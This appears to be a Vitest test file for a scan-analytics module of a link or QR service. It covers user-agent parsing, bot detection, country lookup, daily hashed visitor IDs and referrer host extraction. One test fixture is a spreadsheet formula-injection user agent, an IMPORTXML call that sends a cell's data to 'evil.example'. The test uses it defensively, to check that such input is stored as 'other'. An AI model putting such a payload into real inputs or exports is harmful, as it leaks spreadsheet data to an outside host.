import { config } from "@/lib/config";
import { createHmac } from "node:crypto";
import { describe, expect, it } from "vitest";
import { agentFacts } from "./agents";
import { countryFromEdge } from "./countries";
import { enrichScan, referrerHost } from "./enrich";
import type { CapturedScan } from "./types";
import { visitorHash } from "./visitors";

const PHONE =
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1";

const captured = (overrides: Partial<CapturedScan> = {}): CapturedScan => ({
  linkId: "lnk_1",
  host: "s.example",
  occurredAt: Date.UTC(2026, 10, 20, 12),
  method: "GET",
  viaQr: false,
  userAgent: PHONE,
  referrer: null,
  edgeCountry: null,
  forwardedFor: null,
  peerAddress: null,
  realIp: null,
  servedRule: null,
  ...overrides,
});

describe("agentFacts", () => {
  it.each([
    [
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
      { bot: false, device: "desktop", browser: "Chrome", os: "Windows" },
    ],
    [PHONE, { bot: false, device: "mobile", browser: "Safari", os: "iOS" }],
    [
      "Mozilla/5.0 (Linux; Android 14; SM-X710) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
      { bot: false, device: "tablet", browser: "Chrome", os: "Android" },
    ],
  ])("parses %s", (agent, facts) => {
    expect(agentFacts(agent)).toEqual(facts);
  });

  it.each([
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Twitterbot/1.0",
    "facebookexternalhit/1.1",
    "WhatsApp/2.23.20.0",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0",
  ])("calls %s a bot", (agent) => {
    expect(agentFacts(agent).bot).toBe(true);
  });

  it.each([
    ['+IMPORTXML(CONCAT("//evil.example/?",A2),"//a")/1 (Mac)'],
    ["-2+3/1.0 (Windows NT 10.0)"],
    ["@SUM(1)/5.0 (X11; =EvilOS x86_64)"],
  ])("stores a browser or OS outside the parser's known names as other: %s", (userAgent) => {
    const facts = agentFacts(userAgent);
    expect(facts.browser).toBe("other");
    expect([null, "other", "macOS", "Windows"]).toContain(facts.os);
  });

  it("keeps the names the parser knows", () => {
    const facts = agentFacts(
      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    );
    expect(facts).toMatchObject({ browser: "Chrome", os: "Linux" });
  });

  it("knows nothing of a missing agent, and does not call it a bot", () => {
    expect(agentFacts(null)).toEqual({ bot: false, device: null, browser: null, os: null });
  });
});

describe("enrichScan", () => {
  it("counts HEAD as a bot, without a visitor hash", () => {
    expect(enrichScan(captured({ method: "HEAD" }), () => null)).toMatchObject({ bot: true, visitor: null });
  });

  it("trusts the edge's country, and looks up the trusted address otherwise", () => {
    const lookups: (string | null)[] = [];
    const lookup = (address: string | null) => (lookups.push(address), "GB");
    expect(enrichScan(captured({ edgeCountry: "nz" }), lookup).country).toBe("NZ");
    expect(enrichScan(captured({ edgeCountry: "XX", forwardedFor: "203.0.113.9, 81.2.69.142" }), lookup).country).toBe("GB");
    // Through the front door, whose socket's peer is the proxy the suite plays (tests/support/per-file-setup.ts).
    const throughFrontDoor = captured({ forwardedFor: "203.0.113.9, 81.2.69.142", peerAddress: "10.0.0.2" });
    expect(enrichScan(throughFrontDoor, lookup).country).toBe("GB");
    expect(lookups).toEqual(["81.2.69.142", "81.2.69.142"]);
  });

  it("hashes the same visitor alike within a UTC day and differently the next day, never keeping the address", () => {
    const first = enrichScan(captured({ forwardedFor: "81.2.69.142" }), () => null);
    const later = enrichScan(captured({ forwardedFor: "81.2.69.142", occurredAt: Date.UTC(2026, 10, 20, 23, 59) }), () => null);
    const nextDay = enrichScan(captured({ forwardedFor: "81.2.69.142", occurredAt: Date.UTC(2026, 10, 21, 0, 1) }), () => null);
    expect(first.visitor).toMatch(/^[0-9a-f]{32}$/);
    expect(later.visitor).toBe(first.visitor);
    expect(nextDay.visitor).not.toBe(first.visitor);
    expect(JSON.stringify(first)).not.toContain("81.2.69.142");
    expect(visitorHash("2026-11-20", "81.2.69.142", PHONE)).toBe(first.visitor);
  });

  it("keeps the visitor hash's definition, so instances on either side of a deploy count a visitor once", () => {
    const dayKey = createHmac("sha256", config().AUTH_SECRET!).update("scan-visitor:2026-11-20").digest();
    const expected = createHmac("sha256", dayKey).update(`81.2.69.142\n${PHONE}`).digest().subarray(0, 16).toString("hex");
    expect(visitorHash("2026-11-20", "81.2.69.142", PHONE)).toBe(expected);
  });
});

describe("referrerHost", () => {
  it.each([
    ["https://News.Example/story?id=4#top", "news.example"],
    ["https://user:secret@shop.example:8443/cart", "shop.example"],
    ["https://bücher.example/", "xn--bcher-kva.example"],
    ["android-app://com.google.android.gm/", "com.google.android.gm"],
    ["not a url", null],
    ["", null],
  ])("keeps only the host of %j", (referrer, host) => {
    expect(referrerHost(referrer)).toBe(host);
  });
});

describe("countryFromEdge", () => {
  it.each([
    ["AU", "AU"],
    [" au ", "AU"],
    ["XX", null],
    ["T1", null],
    ["Australia", null],
    [null, null],
  ])("reads %j as %j", (value, country) => {
    expect(countryFromEdge(value)).toBe(country);
  });
});
